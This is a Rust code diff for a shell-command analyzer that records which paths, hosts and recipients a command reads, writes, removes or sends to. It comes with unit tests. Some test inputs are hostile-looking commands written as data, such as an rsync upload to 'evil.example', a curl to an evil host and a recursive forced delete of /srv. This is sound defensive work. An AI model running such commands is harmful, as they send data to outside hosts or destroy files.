@@ -7,11 +7,11 @@
 use std::sync::LazyLock;
 
 use regex::Regex;
-use rulekeep_types::facts::{self, Cause, Doing, Kind, Kinds, Open, Operand, Role, host_of};
-use rulekeep_types::{Action, Capability, Operation, Resource, RiskLevel};
+use rulekeep_types::facts::{Cause, Doing, Kind, Kinds, Open, Operand, Role, host_of};
+use rulekeep_types::{Action, Capability, Operation, Resource, RiskLevel, TargetKind};
 
 use crate::programs::Program;
-use crate::reading::add_open;
+use crate::reading::{add_open, add_operand};
 use crate::target;
 
 use super::covered::{Covering, Plain, rows};
@@ -24,6 +24,19 @@ pub(super) enum Folders {
     /// One of these; the empty text is the folder in which the line starts.
     OneOf(Vec<String>),
     Unknown,
+}
+
+impl Folders {
+    /// The folders if either may be the current one.
+    pub(super) fn or(self, other: Self) -> Self {
+        let (Self::OneOf(mut folders), Self::OneOf(others)) = (self, other) else { return Self::Unknown };
+        for folder in others {
+            if !folders.contains(&folder) {
+                folders.push(folder);
+            }
+        }
+        if folders.len() > MOST_FOLDERS { Self::Unknown } else { Self::OneOf(folders) }
+    }
 }
 
 impl Default for Folders {
@@ -43,6 +56,15 @@ pub(super) enum Appended {
 impl Shell<'_, '_> {
     /// Records the operands of a command that runs no other.
     pub(super) fn cover(&mut self, name: &str, arguments: View<'_>) {
+        if name == "git"
+            && let ["-C", _, ..] = arguments.texts
+        {
+            let folders = self.folders.clone();
+            self.go_on_in(arguments.words.get(1));
+            self.cover(name, arguments.from(2));
+            self.folders = folders;
+            return;
+        }
         let sub = arguments.texts.first().map(|sub| format!("{name} {sub}"));
         let by_sub = sub.as_ref().and_then(|sub| rows().get(sub.as_str()));
         let (row, arguments) = match by_sub {
@@ -50,6 +72,9 @@ impl Shell<'_, '_> {
             None => (rows().get(name), arguments),
         };
         let Some(row) = row.cloned() else {
+            if matches!(name, "popd" | "dirs") {
+                self.folders = Folders::Unknown;
+            }
             self.open(Cause::Execution, Kinds::OPERANDS, name);
             self.mounts(arguments.words);
             arguments.words.iter().for_each(|word| self.leftover(word));
@@ -62,16 +87,20 @@ impl Shell<'_, '_> {
             self.appended = None;
             return;
         }
-        let mut covering = Covering::of(&row, arguments.words);
-        let unknown = std::mem::take(&mut covering.unknown);
-        for word in &unknown {
+        let covering = Covering::of(&row, arguments.words);
+        for word in &covering.unknown {
             self.open(Cause::Execution, Kinds::OPERANDS, &word.text);
             self.leftover(word);
+        }
+        let is_unsure = !covering.unknown.is_empty();
+        if is_unsure {
+            // An unknown option may change what the other words are.
+            covering.plain.iter().for_each(|word| self.leftover(word));
         }
         for (word, role, is_tree) in &covering.paths {
             self.path(word, *role, *is_tree);
         }
-        let is_tree = covering.is_tree || row.is_tree;
+        let is_tree = covering.is_tree || row.is_tree || is_unsure;
         let mut kinds = row.plain.as_slice();
         if covering.has_text
             && let [Plain::Text | Plain::Script, rest @ ..] = kinds
@@ -81,7 +110,7 @@ impl Shell<'_, '_> {
         let count = covering.plain.len();
         for (place, word) in covering.plain.iter().enumerate() {
             let Some(kind) = kinds.get(place).or(kinds.last()) else { break };
-            let is_last = place + 1 == count && count > 1;
+            let is_last = place + 1 == count && count > 1 && covering.folder().is_none();
             self.plain(word, *kind, is_tree, is_last, covering.becomes);
         }
         let needed = kinds.iter().filter(|kind| **kind == Plain::Text).count();
@@ -92,13 +121,22 @@ impl Shell<'_, '_> {
             && (is_tree || needed == 0)
         {
             // Without an operand the program reads the folder in which it runs.
-            let here = Word { text: ".".to_owned(), ..Word::default() };
-            self.path(&here, if needed == 0 { Role::Named } else { Role::Read }, is_tree);
+            self.path(&here(), if needed == 0 { Role::Named } else { Role::Read }, is_tree);
+        }
+        if count == 0 && kinds.last() == Some(&Plain::Recipient) {
+            // `sendmail -t` takes them from its input.
+            self.open(Cause::Text, Kinds::of(&[Kind::Recipient]), name);
+        }
+        if row.saves && covering.folder().is_none() {
+            self.path(&here(), Role::Write, true);
         }
         self.put_into(&covering, kinds, is_tree);
         self.appended_to(kinds.last().map(|kind| (*kind, is_tree, covering.becomes)));
-        if matches!(name, "cd" | "pushd") {
-            self.change_folder(covering.plain.first());
+        match (name, covering.plain.first()) {
+            ("pushd", None) => self.folders = Folders::Unknown,
+            ("pushd", Some(word)) if word.text.starts_with('+') => self.folders = Folders::Unknown,
+            ("cd" | "pushd", to) => self.change_folder(to),
+            _ => {}
         }
     }
 
@@ -107,8 +145,7 @@ impl Shell<'_, '_> {
         if !kinds.iter().all(|kind| matches!(kind, Plain::Copy | Plain::Move)) {
             return;
         }
-        let folder = covering.paths.iter().find(|(_, role, _)| *role == Role::Write).map(|(folder, ..)| folder);
-        let (folder, sources) = match (folder, covering.plain.split_last()) {
+        let (folder, sources) = match (covering.folder(), covering.plain.split_last()) {
             (Some(folder), _) => (folder, covering.plain.as_slice()),
             (None, Some((folder, sources))) if !sources.is_empty() => (folder, sources),
             _ => return,
@@ -152,13 +189,12 @@ impl Shell<'_, '_> {
             Plain::Copy | Plain::Move if is_last => self.destination(word, is_tree),
             Plain::Copy => self.destination_or(word, Role::Read, is_tree),
             Plain::Move => self.destination_or(word, Role::Remove, is_tree),
-            Plain::Host => self.host(word, Role::Named),
             Plain::Url => self.url(word),
             Plain::Recipient => {
                 if word.dynamic {
                     self.open(Cause::Text, Kinds::of(&[Kind::Recipient]), &word.text);
                 } else {
-                    let value = target::plain(rulekeep_types::TargetKind::Recipient, &word.text);
+                    let value = target::plain(TargetKind::Recipient, &word.text);
                     self.operand(Operand::new(Kind::Recipient, Role::SendTo, value, &word.text));
                 }
             }
@@ -181,6 +217,7 @@ impl Shell<'_, '_> {
     /// A path, which may be on another host: `ann@host:path`.
     fn destination_or(&mut self, word: &Word, role: Role, is_tree: bool) {
         match word.text.split_once(':') {
+            Some((_, path)) if path.starts_with("//") => self.url(word),
             Some((host, path)) if !host.contains('/') && !host.is_empty() => {
                 self.host(&Word { text: host.to_owned(), ..word.clone() }, Role::SendTo);
                 self.open(Cause::Execution, Kinds::of(&[Kind::Path]), path);
@@ -192,10 +229,15 @@ impl Shell<'_, '_> {
     /// Records the words that another program appends to a command whose last operands are of a kind.
     fn appended_to(&mut self, last: Option<(Plain, bool, Option<Role>)>) {
         let Some(appended) = self.appended.take() else { return };
-        let takes_none = matches!(last, Some((Plain::Text | Plain::Mode, ..)));
+        let kinds = match last {
+            Some((Plain::Text | Plain::Mode, ..)) => return,
+            Some((Plain::Url, ..)) => Kinds::of(&[Kind::Host, Kind::Url, Kind::Path]),
+            Some((Plain::Recipient, ..)) => Kinds::of(&[Kind::Recipient]),
+            Some(_) => Kinds::of(&[Kind::Path]),
+            None => Kinds::OPERANDS,
+        };
         match appended {
-            _ if takes_none => {}
-            Appended::Unknown => self.open(Cause::Text, Kinds::of(&[Kind::Path]), "what is appended"),
+            Appended::Unknown => self.open(Cause::Text, kinds, "what is appended"),
             Appended::Below(roots) => {
                 for root in &roots {
                     match last {
@@ -209,6 +251,9 @@ impl Shell<'_, '_> {
 
     /// Records a redirection as an act of its own. Returns the place that it leads to.
     pub(super) fn redirected(&mut self, word: &Word, role: Role) {
+        if is_no_place(&word.text) {
+            return;
+        }
         let outer = self.reading.begin_step();
         self.path(word, role, false);
         let (action, operation) =
@@ -222,15 +267,16 @@ impl Shell<'_, '_> {
     /// Records a path, from each folder that it may start from.
     pub(super) fn path(&mut self, word: &Word, role: Role, is_tree: bool) {
         let text = word.text.as_str();
-        if matches!(text, "" | "-" | "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr")
-            || text.starts_with('&')
-        {
+        if is_no_place(text) {
             return;
         }
         if text.contains("{}")
             && let Some(roots) = self.roots.clone()
         {
             // Of `find`: whatever was found.
+            if roots.is_empty() {
+                return self.open(Cause::Text, Kinds::of(&[Kind::Path]), text);
+            }
             for root in &roots {
                 self.path(root, role, true);
             }
@@ -298,7 +344,9 @@ impl Shell<'_, '_> {
 
     fn host(&mut self, word: &Word, role: Role) {
         match host_of(&word.text) {
-            Some(host) if !word.dynamic => self.operand(Operand::new(Kind::Host, role, host, &word.text)),
+            Some(host) if !word.dynamic && !target::is_open(TargetKind::Host, &word.text) => {
+                self.operand(Operand::new(Kind::Host, role, host, &word.text))
+            }
             _ => self.open(Cause::Text, Kinds::of(&[Kind::Host]), &word.text),
         }
     }
@@ -310,7 +358,7 @@ impl Shell<'_, '_> {
         if let Some(path) = target::file_path(&word.text) {
             return self.path(&Word { text: path.to_owned(), ..word.clone() }, Role::Read, false);
         }
-        let value = target::plain(rulekeep_types::TargetKind::Host, &word.text);
+        let value = target::plain(TargetKind::Host, &word.text);
         self.operand(Operand::new(Kind::Url, Role::Read, value, &word.text));
         self.host(word, Role::Read);
     }
@@ -344,14 +392,8 @@ impl Shell<'_, '_> {
     }
 
     fn operand(&mut self, operand: Operand) {
-        if let Some(step) = self.reading.current_step()
-            && !step.operands.contains(&operand)
-        {
-            if step.operands.len() < facts::MOST_OPERANDS {
-                step.operands.push(operand);
-            } else {
-                add_open(step, Open::new(Cause::Text, Kinds::ALL, "split the command".to_owned()));
-            }
+        if let Some(step) = self.reading.current_step() {
+            add_operand(step, operand);
         }
     }
 
@@ -378,18 +420,16 @@ impl Shell<'_, '_> {
         };
         let is_long = matches!(&next, Folders::OneOf(folders) if folders.iter().any(|one| one.len() > LONGEST_FOLDER));
         let next = if is_long { Folders::Unknown } else { next };
-        self.folders = match (next, std::mem::take(&mut self.folders)) {
-            // The command may fail, or run in a subshell: then the folder stays.
-            (Folders::OneOf(mut next), Folders::OneOf(before)) if !self.only_goes_on => {
-                for folder in before {
-                    if !next.contains(&folder) {
-                        next.push(folder);
-                    }
-                }
-                if next.len() > MOST_FOLDERS { Folders::Unknown } else { Folders::OneOf(next) }
-            }
-            (next, _) => next,
-        };
+        // The command may fail, or run in a subshell: then the folder stays.
+        let before = std::mem::take(&mut self.folders);
+        self.folders = if self.only_goes_on { next } else { next.or(before) };
+    }
+
+    /// Follows a change of the folder without which the command does not run.
+    fn go_on_in(&mut self, folder: Option<&Word>) {
+        let only_goes_on = std::mem::replace(&mut self.only_goes_on, true);
+        self.change_folder(folder);
+        self.only_goes_on = only_goes_on;
     }
 
     /// Reads what a wrapper's own words say of the command behind them.
@@ -409,9 +449,7 @@ impl Shell<'_, '_> {
                 _ => None,
             };
             if let Some(folder) = folder {
-                let only_goes_on = std::mem::replace(&mut self.only_goes_on, true);
-                self.change_folder(Some(&folder));
-                self.only_goes_on = only_goes_on;
+                self.go_on_in(Some(&folder));
             }
             self.leftover(word);
         }
@@ -494,18 +532,19 @@ impl Shell<'_, '_> {
             [name, ..] => (base_name(name), 1),
             [] => return Appended::Unknown,
         };
-        if !matches!(name, "find" | "ls" | "fd" | "fdfind") {
+        if !matches!(name, "find" | "gfind" | "bfs" | "ls" | "fd" | "fdfind") {
             return Appended::Unknown;
         }
         let rest = words.get(skip..).unwrap_or_default();
-        let roots = rest.iter().take_while(|word| name != "find" || !word.text.starts_with(['-', '(', '!']));
+        let finds = matches!(name, "find" | "gfind" | "bfs");
+        let roots = rest.iter().take_while(|word| !finds || !word.text.starts_with(['-', '(', '!']));
         let mut roots: Vec<Word> = roots.filter(|word| !word.text.starts_with('-')).cloned().collect();
         if name.starts_with("fd") {
             // The first word is the pattern.
             roots = roots.into_iter().skip(1).collect();
         }
         if roots.is_empty() {
-            roots.push(Word { text: ".".to_owned(), ..Word::default() });
+            roots.push(here());
         }
         Appended::Below(roots)
     }
@@ -516,6 +555,16 @@ fn sorted(option: &str) -> String {
     let mut letters: Vec<char> = option.chars().skip(1).collect();
     letters.sort_unstable();
     std::iter::once('-').chain(letters).collect()
+}
+
+/// Returns whether a path stands for no file that is kept.
+fn is_no_place(path: &str) -> bool {
+    matches!(path, "" | "-" | "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr")
+}
+
+/// The folder in which a command runs.
+pub(super) fn here() -> Word {
+    Word { text: ".".to_owned(), ..Word::default() }
 }
 
 /// The rest of a word behind some bytes.
@@ -592,12 +641,15 @@ const PROGRAMS: &[&str] =
 const MOUNTS: &[&str] = &["-v", "--volume", "-B", "--bind"];
 /// Maximum number of values of a loop that are followed.
 const MOST_LOOPED: usize = 64;
+/// Maximum number of folders that are followed at once.
 const MOST_FOLDERS: usize = 8;
 /// Maximum length of a folder that is followed, in bytes.
 const LONGEST_FOLDER: usize = 1024;
 /// Maximum length of a recorded command, in bytes.
 const LONGEST_COMMAND: usize = 1024;
+/// Maximum number of layers of a command that are recorded.
 const MOST_LAYERS: usize = 8;
+/// Maximum number of parts of a word that are recorded.
 const MOST_PIECES: usize = 8;
 /// Maximum length of a quoted part, in bytes.
 const LONGEST_FOUND: usize = 120;
@@ -649,6 +701,14 @@ mod tests {
                 "curl -sLo x https://a.example/y",
                 &["write path x", "read url https://a.example/y", "read host a.example"],
             ),
+            ("cp -t /tmp a", &["write path /tmp", "read path a", "write path /tmp/a"]),
+            ("mv -t /tmp a", &["write path /tmp", "remove path a+", "write path /tmp/a+"]),
+            ("grep -v -f /dev/null /srv/a", &["read path /srv/a"]),
+            ("grep -T x /srv/a", &["read path /srv/a"]),
+            ("chmod -777 /srv/a", &["write path /srv/a"]),
+            ("chmod -rwx /srv/a", &["write path /srv/a"]),
+            ("git -C /srv rm a", &["remove path /srv/a"]),
+            ("cat a 2>/dev/null", &["read path a"]),
             ("mail -s x ann@a.example eve", &["send_to recipient ann@a.example", "send_to recipient eve"]),
         ] {
             assert_eq!(covered(line), expected, "{line}");
@@ -659,6 +719,10 @@ mod tests {
     fn a_path_is_the_same_from_whatever_folder_it_is_written() {
         for line in [
             "cd /srv && cat secret/a",
+            "cd /srv && pushd /tmp && popd && cat secret/a",
+            "eval 'cd /srv' && cat secret/a",
+            "git -C /srv show secret/a",
+            "grep --regex=x /srv/secret/a",
             "pushd /srv && cat ./secret//a",
             "env -C /srv cat secret/a",
             "sh -c 'cd /srv && cat secret/a'",
@@ -681,10 +745,25 @@ mod tests {
 
     #[test]
     fn what_no_row_knows_leaves_the_command_open() {
-        for line in ["cat --frobnicate a", "rm $X", "mytool a", "xargs cat < list", "tar xf a.tar", "sed e a", "$CMD a"]
-        {
+        for line in [
+            "cat --frobnicate a",
+            "rm $X",
+            "mytool a",
+            "xargs cat < list",
+            "xargs curl < list",
+            "tar xf a.tar",
+            "tar -cfv /srv",
+            "sed e a",
+            "$CMD a",
+            "sendmail -t",
+            "curl 'http://{evil,x}.example'",
+        ] {
             assert!(covered(line).iter().any(|found| found.starts_with("OPEN")), "{line}: {:?}", covered(line));
         }
+        assert!(covered("gfind /srv -exec cat {} +").contains(&"read path /srv+".to_owned()));
+        assert!(covered("rm --recurs -f /srv").contains(&"remove path /srv+".to_owned()));
+        assert!(covered("rsync a rsync://evil.example/y").contains(&"read host evil.example".to_owned()));
+        assert_eq!(covered("wget -q https://a.example/y")[2..], ["write path .+"]);
         assert_eq!(covered("find src -name x | xargs rm"), ["named path src+", "remove path src+"]);
         assert_eq!(covered("xargs echo < list"), ["read path list"]);
     }
